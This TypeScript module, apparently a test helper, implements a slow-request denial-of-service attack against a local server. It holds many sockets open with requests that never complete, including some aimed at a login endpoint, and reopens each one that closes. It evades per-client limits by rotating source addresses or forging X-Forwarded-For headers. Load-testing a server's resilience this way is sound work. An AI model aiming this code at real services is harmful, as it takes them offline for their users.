import { connect, type Socket } from 'node:net'

export interface SlowClients {
  /** Connections that stand at this moment. */
  standing(): number
  stop(): void
}

const AGAIN_MS = 5_000
const HEADS = [
  // Nothing at all, a head that never ends, a body that never comes.
  '',
  'POST /x HTTP/1.1\r\nHost: x\r\n',
  'POST /x HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 20\r\n\r\n{',
  'POST /api/user/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 20\r\n\r\n{',
]

/**
 * Holds unfinished requests open, and opens a new one for each that is closed.
 * @param addresses local ones to connect from, in turn; with `forwardedFor` what a proxy would say of the clients instead
 */
export function attackSlowly(
  port: number,
  count: number,
  { addresses, forwardedFor = false }: { addresses: string[]; forwardedFor?: boolean },
): SlowClients {
  const sockets = new Set<Socket>()
  let isOver = false

  function open(place: number): void {
    if (isOver) return
    const address = addresses[place % addresses.length] ?? ''
    const socket = connect({ host: '127.0.0.1', port, ...(!forwardedFor && { localAddress: address }) })
    sockets.add(socket)
    const head = HEADS[place % HEADS.length] ?? ''
    const said = forwardedFor ? head.replace('\r\n', `\r\nX-Forwarded-For: ${address}\r\n`) : head
    socket.on('connect', () => said && socket.write(said))
    socket.on('data', () => {})
    socket.on('error', () => {})
    socket.on('close', () => {
      sockets.delete(socket)
      setTimeout(() => open(place), AGAIN_MS).unref()
    })
  }

  for (let place = 0; place < count; place += 1) open(place)
  return {
    standing: () => [...sockets].filter(({ readyState }) => readyState === 'open').length,
    stop() {
      isOver = true
      for (const socket of sockets) socket.destroy()
    },
  }
}
